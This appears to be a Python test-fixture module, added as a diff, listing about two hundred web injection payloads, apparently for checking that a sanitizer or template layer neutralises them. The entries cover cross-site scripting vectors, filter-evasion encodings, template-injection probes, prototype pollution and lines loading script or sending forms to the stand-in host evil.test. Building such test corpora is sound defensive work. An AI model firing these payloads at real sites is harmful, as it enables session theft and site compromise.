@@ -1,0 +1,178 @@
+"""Texts that try to be more than texts on a page: markup, handlers, quotes that close, templates, odd characters."""
+
+from __future__ import annotations
+
+_ACT = "parent.hit=1"
+
+_SCRIPTS = [
+    f"<script>{_ACT}</script>",
+    f"<ScRiPt >{_ACT}</sCrIpT\t>",
+    f"<script/x>{_ACT}</script>",
+    f"<script\n>{_ACT}</script\n>",
+    "<script src=//evil.test/x.js></script>",
+    f"<script src=data:,{_ACT}></script>",
+    f"<script type=module>{_ACT}</script>",
+    f"<script>{_ACT}",
+    f"</script><script>{_ACT}</script>",
+    f"</title><script>{_ACT}</script>",
+    f"</textarea><script>{_ACT}</script>",
+    f"</style></noscript><script>{_ACT}</script>",
+    f"--><script>{_ACT}</script><!--",
+    f"]]><script>{_ACT}</script>",
+    f"<<script>script>{_ACT}<</script>/script>",
+    f"<scr<script>ipt>{_ACT}</scr</script>ipt>",
+    f"<svg><script>{_ACT}</script></svg>",
+    f"<svg><script href=data:,{_ACT} />",
+    f"<math><mtext></p><script>{_ACT}</script>",
+    f"<!--<script>{_ACT}//--></script>",
+    f"<noscript><p title='</noscript><script>{_ACT}</script>'>",
+    f"<template><script>{_ACT}</script></template>",
+    "<!--",
+    "<![CDATA[",
+    "<?php echo 1 ?>",
+    "<!DOCTYPE html>",
+    "<plaintext>",
+    "<xmp>",
+    "<",
+    "</",
+    "<a",
+    "<a href='",
+]
+
+_TAGS = [
+    "img src=x",
+    "svg",
+    "body",
+    "video src=x",
+    "audio src=x",
+    "details open",
+    "input autofocus",
+    "iframe",
+    "marquee",
+]
+_EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpageshow", "OnBegin"]
+_HANDLERS = [
+    *(f"<{tag} {_EVENTS[number % len(_EVENTS)]}={_ACT}>" for number, tag in enumerate(_TAGS * 2)),
+    *(f"<x/{event}={_ACT}//" for event in _EVENTS),
+    f"<img/src='x'/onerror='{_ACT}'/>",
+    f"<img src=x onerror\n=\n'{_ACT}'>",
+    f"<img src=x onerror=`{_ACT}`>",
+    f"<img src=x one=1 onerror={_ACT} two=2>",
+    f'<img """><img src=x onerror="{_ACT}">"',
+    f"<svg><animate onbegin={_ACT} attributeName=x dur=1s>",
+    f"<svg><set attributeName=href to=javascript:{_ACT}><a><text>x",
+    f"<style onload={_ACT}></style>",
+    f"<link rel=stylesheet href=x onerror={_ACT}>",
+    f"<object data=x onerror={_ACT}>",
+    f"<form><button formaction=javascript:{_ACT}>x",
+    f"<isindex type=image src=1 onerror={_ACT}>",
+]
+
+_LINKS = [
+    f"<a href=javascript:{_ACT}>x</a>",
+    f"<a href='java\tscript:{_ACT}'>x</a>",
+    f"<a href='&#106;avascript:{_ACT}'>x</a>",
+    f"<a href=' \x01javascript:{_ACT}'>x</a>",
+    f"<a href=vbscript:{_ACT}>x</a>",
+    f"<a href=data:text/html,<script>{_ACT}</script>>x</a>",
+    f"<iframe src=javascript:{_ACT}>",
+    f"<iframe srcdoc='<script>{_ACT}</script>'>",
+    f"<embed src=javascript:{_ACT}>",
+    "<base href=//evil.test/>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{_ACT}'>",
+    "<link rel=import href=//evil.test>",
+    "<form action=//evil.test><input name=csrf-token>",
+    "<meta name=csrf-token content=mine>",
+    "<button data-act=release>x</button>",
+    "<input type=hidden name=next value=//evil.test>",
+    f"javascript:{_ACT}",
+    f"JaVaScRiPt:{_ACT}//",
+    f"data:text/html,<script>{_ACT}</script>",
+    "//evil.test/%0d%0aSet-Cookie:x=y",
+]
+
+_QUOTES = ['"', "'", "`", '" ', "' ", "&quot;", "&#39;", "&#x27", '\\"', "\\'", '"/', "'>"]
+_BREAKING = [
+    *(f"x{quote} onmouseover={_ACT} y={quote}" for quote in _QUOTES),
+    *(f"x{quote}><img src=x onerror={_ACT}>" for quote in _QUOTES),
+    *(f"{quote}autofocus onfocus={_ACT} tabindex=1 x={quote}" for quote in _QUOTES[:4]),
+    *(f"{quote}></option></select><img src=x onerror={_ACT}>" for quote in _QUOTES[:3]),
+    f"x style=width:expression({_ACT}) y",
+    f'" style="background:url(javascript:{_ACT})',
+]
+
+_IN_JSON = [
+    f"\"}}'><img src=x onerror={_ACT}>",
+    f"\"]' onclick={_ACT} x='",
+    f"\\u0027 onclick={_ACT} x=\\u0027",
+    f"\\x27><script>{_ACT}</script>",
+    f'\\"><script>{_ACT}</script>',
+    "</script>",
+    "<\\/script>",
+    "\u2028alert(1)\u2029",
+    '{"__proto__": {"hit": 1}}',
+    '","approval":"approved',
+    "\\",
+    "\\\\'",
+]
+
+_TEMPLATES = [
+    "{{ 7 * 7 }}",
+    "{{ caller.session.csrf_token }}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
+    "{% include 'login.html' %}",
+    "{% raw %}",
+    "{# a comment",
+    "{{ symbols | safe }}",
+    "{{constructor.constructor('parent.hit=1')()}}",
+    "{{$on.constructor('parent.hit=1')()}}",
+    "<x ng-app ng-csp>{{$eval('hit=1')}}</x>",
+    "<x v-html=\"'<img src=x onerror=parent.hit=1>'\">",
+    "${parent.hit=1}",
+    "#{7*7}",
+    "<%= 7 * 7 %>",
+    "[[7*7]]",
+    "%s%n%x{0.__class__}",
+    "__${7*7}__::.x",
+]
+
+_SPACES = ["\x00", "\x0b", "\x0c", "\x1f", "\x85", "\xa0", "\u1680", "\u180e", "\u200b", "\u2028", "\u3000", "\ufeff"]
+_ODD = [
+    *(f"<img{space}src=x{space}onerror={_ACT}>" for space in _SPACES),
+    *(f"<{space}script>{_ACT}</script>" for space in _SPACES[:5]),
+    f"<scr\x00ipt>{_ACT}</scr\x00ipt>",
+    f"\uff1cscript\uff1e{_ACT}\uff1c/script\uff1e",
+    f"\u02c2script\u02c3{_ACT}",
+    f"+ADw-script+AD4-{_ACT}+ADw-/script+AD4-",
+    f"%3Cscript%3E{_ACT}%3C/script%3E",
+    f"%253Cscript%253E{_ACT}",
+    f"&lt;script&gt;{_ACT}&lt;/script&gt;",
+    f"&amp;lt;script&amp;gt;{_ACT}",
+    f"&#60script&#62{_ACT}",
+    f"\x1b[31m<script>{_ACT}</script>",
+    f"\xc0\xbcscript>{_ACT}",
+    f"\ud83d<script>{_ACT}</script>\ude00",
+    f"<img src=x onerror={_ACT}\ud800>",
+    f'\udfff" onclick={_ACT} "',
+    f"\u202e>tpircs<{_ACT}>tpircs/<",
+    f"\u2066<script>{_ACT}</script>\u2069",
+    f'\u200f" onclick={_ACT} x="',
+    f"\u0130mg <\u0131mg src=x onerror={_ACT}> <\u017fcript>",
+    "e\u0301" * 40 + f"<b onclick={_ACT}>",
+    "\r\n\r\n<html>",
+    "\t\n\r ",
+    "\ue0f0<script>\ue0f1</script>",
+    "\x10\x10<script>\x10003c",
+    "\u2022\u2022\u2022",
+    "\U0001f984" * 30,
+    "😀<svg/onload=parent.hit=1>",
+    "<b>bold</b> <i>and</i> <mark>marked</mark> <del>gone</del> <ins>new</ins>",
+    "<use href=#icon-send>",
+    "<time datetime=x>",
+    "-" * 300 + "<script>",
+    "<" * 300,
+]
+
+PAYLOADS = [*_SCRIPTS, *_HANDLERS, *_LINKS, *_BREAKING, *_IN_JSON, *_TEMPLATES, *_ODD]
+"""Two hundred of them, each once."""
